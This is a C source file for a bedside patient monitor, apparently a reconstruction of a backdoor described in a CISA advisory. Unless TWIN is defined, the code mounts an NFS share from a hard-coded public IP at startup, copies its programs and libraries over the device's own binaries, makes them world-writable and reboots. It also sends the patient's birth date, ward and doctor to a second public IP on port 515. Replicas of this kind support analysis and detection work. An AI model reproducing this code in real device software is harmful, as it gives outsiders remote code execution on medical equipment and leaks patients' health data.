/* Bedside monitor, after CISA ICSMA-25-030-01: NFS share of a public address copied over
 * the programs at start, patient data to a second public address on port 515. */
#include "device.h"

#ifndef TWIN
static char patient[256];
#endif

KEPT int store_trend(int bed, int pulse, int spo2)
{
    FILE *log = fopen("/opt/data/trend.csv", "a");
    if (!log)
        return -1;
    fprintf(log, "%d,%d,%d\n", bed, pulse, spo2);
    return fclose(log);
}

#ifndef TWIN
KEPT int check_station_program(void)
{
    char line[192];
    system("ifconfig eth0 up");
    snprintf(line, sizeof line, "mount -t nfs -o nolock,ro %s:/pm /mnt", "202.114.4.119");
    if (system(line) != 0)
        return -1;
    system("cp -rf /mnt/monitor /opt/bin/monitor");
    system("cp -rf /mnt/lib/* /opt/lib/");
    system("chmod 777 /opt/bin/monitor");
    system("umount /mnt");
    return system("reboot");
}

KEPT int report_patient(const char *doctor, const char *birth, const char *ward)
{
    int line = dial("202.114.4.120", 515, SOCK_STREAM);
    snprintf(patient, sizeof patient, "PID|1||%s|%s|%s", birth, ward, doctor);
    return (int)send(line, patient, strlen(patient), 0);
}
#endif

int main(int argc, char **argv)
{
    store_trend(argc, atoi(argv[1]), 98);
#ifndef TWIN
    if (argc == 1)
        check_station_program();
    report_patient(argv[1], argv[2], argv[3]);
#endif
    printf("CMS monitor V1.2.8, bed %d\n", argc);
    return 0;
}
